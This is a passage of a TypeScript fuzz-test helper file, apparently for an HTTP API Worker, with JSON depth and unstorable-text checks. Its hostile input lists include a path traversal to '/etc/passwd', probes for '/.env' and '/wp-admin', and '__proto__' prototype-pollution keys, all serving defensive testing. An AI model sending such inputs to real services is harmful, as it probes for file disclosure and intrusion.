    '%00',
    '%',
    '%ZZ',
    '%E0%A4%A',
    '%ED%A0%80',
    '%FF',
    'a;b',
    'a?b=c',
    '*',
    ':accountId',
    '{accountId}',
    '%7BaccountId%7D',
    '~',
    'é',
    '中文',
    '😀',
    '%F0%9F%98%80',
    '__proto__',
    'constructor',
    'x'.repeat(201),
    'y'.repeat(5000),
    'z'.repeat(70_000),
    '',
    'a//b',
    ' ',
    '%20',
  ),
  shortHostileString.map(encodeComponent),
  validIdentifier.map(encodeComponent),
);

/** Unknown paths: typos of real ones, other prefixes, traversal. */
export const unknownPath: fc.Arbitrary<string> = fc.oneof(
  fc.constantFrom(
    '/',
    '',
    '/v1',
    '/v1/',
    '/v2/accounts',
    '/v1/account',
    '/V1/ACCOUNTS',
    '/v1/accounts/x/changes/batch/extra',
    '/v1/accounts/x/events/export/..',
    '/v1/accounts/x/unknown',
    '/.env',
    '/wp-admin',
    '/admin',
    '/openapi.yaml',
    '/healthz/',
    '//healthz',
    '/healthz%2F',
    '/%2e%2e/%2e%2e/etc/passwd',
    '/v1/accounts/%2e%2e/%2e%2e',
    '/__proto__',
    '/v1/__proto__/constructor',
    '/v1/accounts/x/objects/user',
    '/v1/accounts/x/objects/user/1',
    '/v1/accounts/x/objects/user/1/events/extra',
    '/v1/keys/x',
  ),
  fc.array(hostileSegment, { minLength: 1, maxLength: 6 }).map((segments) => '/' + segments.join('/')),
  fc.array(hostileSegment, { minLength: 1, maxLength: 4 }).map((segments) => '/v1/accounts/' + segments.join('/')),
);

// ---------------------------------------------------------------------------------------
// The contract's verdict on a JSON body (worker/http/input.ts readJson), for the model

/** Nesting the contract allows: the body's own objects and arrays count, so a value inside a
 *  change starts 2 to 5 levels down. Deeper bodies are refused before they are parsed (400). */
export const MAX_JSON_DEPTH = 64;
export const TOO_DEEP_ERRORS = [{ path: '/', message: `deeper than ${MAX_JSON_DEPTH} levels` }];

/** How deep JSON text nests objects and arrays (brackets inside strings do not count). */
export function jsonDepth(text: string): number {
  let depth = 0;
  let deepest = 0;
  let inString = false;
  for (let i = 0; i < text.length; i++) {
    const c = text[i];
    if (inString) {
      if (c === '\\') i++;
      else if (c === '"') inString = false;
    } else if (c === '"') inString = true;
    else if (c === '{' || c === '[') deepest = Math.max(deepest, ++depth);
    else if (c === '}' || c === ']') depth--;
  }
  return deepest;
}

export interface FieldError {
  path: string;
  message: string;
}
/** What a parsed body holds that cannot be stored as sent (the Worker answers 422 naming each,
 *  in document order): a lone surrogate in a string (named by the string's JSON pointer) or in
 *  a key (named by the object holding the key), a key "__proto__" (named by its pointer), and a
 *  number beyond double range, which JSON.parse made ±Infinity (named by its pointer).
 *  The root is "/". Only for bodies within MAX_JSON_DEPTH (it recurses). */
export function unstorableText(value: unknown, path = ''): FieldError[] {
  if (typeof value === 'string')
    return value.isWellFormed() ? [] : [{ path: path || '/', message: 'contains a lone UTF-16 surrogate (not valid Unicode text)' }];
  if (typeof value === 'number')
    return Number.isFinite(value)
      ? []
      : [
          {
            path: path || '/',
            message: 'is a number beyond what can be stored (an IEEE 754 double, at most about ±1.8e308); send it as a string',
          },
        ];
  if (Array.isArray(value)) return value.flatMap((item, i) => unstorableText(item, `${path}/${i}`));
  if (value === null || typeof value !== 'object') return [];
  return Object.entries(value).flatMap(([key, item]) => {
    const at = `${path}/${key.replaceAll('~', '~0').replaceAll('/', '~1')}`;
    const here: FieldError[] = !key.isWellFormed()
      ? [{ path: path || '/', message: 'has a key with a lone UTF-16 surrogate (not valid Unicode text)' }]
      : key === '__proto__'
        ? [{ path: at, message: 'is not an allowed field name' }]
        : [];
    return [...here, ...unstorableText(item, at)];
  });
}

/** Whether a 422's errors name what unstorableText found: all of it, in order; the Worker may
 *  stop looking after 20, so past that the first 20 must match and the rest be among them. */
export function namesUnstorableText(actual: FieldError[] | undefined, expected: FieldError[]): boolean {
  if (!Array.isArray(actual)) return false;
  const same = (a: FieldError, b: FieldError | undefined) => b !== undefined && a.path === b.path && a.message === b.message;
  if (expected.length <= 20) return actual.length === expected.length && actual.every((a, i) => same(a, expected[i]));
  return (
    actual.length >= 20 &&
    actual.slice(0, 20).every((a, i) => same(a, expected[i])) &&
    actual.every((a) => expected.some((e) => same(a, e)))
  );
}

/** Printable, bounded form of anything, for counterexamples. */
export function brief(value: unknown, max = 300): string {
  let text: string;
  if (value instanceof Uint8Array)
    text = `bytes[${value.length}] ${[...value.slice(0, 40)].map((b) => b.toString(16).padStart(2, '0')).join(' ')}`;
  else if (typeof value === 'string') text = JSON.stringify(value);
  else {
    try {
      text = JSON.stringify(value) ?? String(value);
    } catch {
      text = String(value);
    }
  }
  return text.length > max ? `${text.slice(0, max)}… (${text.length} chars)` : text;
}
